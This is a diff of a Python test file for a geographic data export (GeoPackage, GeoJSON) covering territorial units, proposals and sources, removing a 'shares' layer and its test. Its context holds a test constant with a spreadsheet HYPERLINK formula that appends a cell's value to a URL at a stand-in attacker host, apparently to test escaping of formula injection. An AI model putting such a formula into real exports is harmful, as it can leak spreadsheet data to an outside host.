@@ -27,7 +27,7 @@ def spelled(text):
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"a")\nsecond, line\r\n\'quoted\' <b>&amp;</b> 択捉'
 LAYERS = [
-    *("units", "areas", "populations", "events", "proposals", "shares", "sources"),
+    *("units", "areas", "populations", "events", "proposals", "sources"),
     *("columns", "about", "layer_styles"),
 ]
 
@@ -60,7 +60,7 @@ def test_geopackage_has_its_layers(package):
         "proposals": len(BOOKS.proposals),
     }
     assert len(package["areas"]) == len(ATLAS.areas)
-    columns = {name for layer in LAYERS[:7] for name in package[layer].columns} - {"geometry"}
+    columns = {name for layer in LAYERS[:6] for name in package[layer].columns} - {"geometry"}
     assert set(package["columns"]["column"]) == columns
 
 
@@ -96,7 +96,7 @@ def test_about_can_be_read(package):
 def test_every_row_names_sources_that_are_listed(opened, record):
     layers = opened(geopackage(ATLAS, EDITION, record))
     labels = dict(zip(layers["sources"]["id"], layers["sources"]["label"], strict=True))
-    for name in layers.keys() & set(LAYERS[:6]):
+    for name in layers.keys() & set(LAYERS[:5]):
         for row in layers[name].itertuples():
             ids = row.source_ids.split()
             assert ids and all(labels[source] in row.source for source in ids)
@@ -117,28 +117,12 @@ def test_events_and_proposals_say_what_the_records_say(package):
     assert list(offer[list(UNITS)]) == ["not addressed", "not addressed", "handed to Japan", "handed to Japan"]
 
 
-def test_shares_are_the_atlas_s(package):
-    shares = package["shares"]
-    own = shares[
-        (shares["proposal"] == "transfer-1956") & (shares["holder"] == "handed to Japan") & shares["km2"].notna()
-    ]
-    lines = ATLAS.shares["transfer-1956"]
-    assert list(own["percent"]) == [round(line.holdings["handed_over"].percent, 2) for line in lines]
-    assert list(own["figures"]) == [BOOKS.wording.proposals.figures[line.figures] for line in lines]
-    printed = sum(len(proposal.shares) for proposal in BOOKS.proposals.values())
-    assert shares["as_printed"].notna().sum() == printed
-
-
 def test_articles_alone_leave_the_references_out(opened):
     layers = opened(geopackage(ATLAS, EDITION, "articles"))
     assert list(layers) == [name for name in LAYERS if name != "populations"]
     for name in ("areas", "events", "proposals"):
         assert all(set(ids.split()) & BOOKS.excerpts.keys() for ids in layers[name]["source_ids"])
     assert "outlines" in set(layers["sources"]["id"]) <= {"outlines", *BOOKS.excerpts}
-    assert set(layers["shares"]["figures"]) <= {
-        *(BOOKS.wording.proposals.figures[name] for name in ("measured", "article")),
-        BOOKS.wording.proposals.as_printed,
-    }
     rows = cells(table(ATLAS, EDITION, "articles"))
     assert {row["unit"] for row in rows} == set(UNITS) and {row["source_ids"] for row in rows} == {"a0-15"}
     text = geojson(ATLAS, EDITION, "articles").decode()
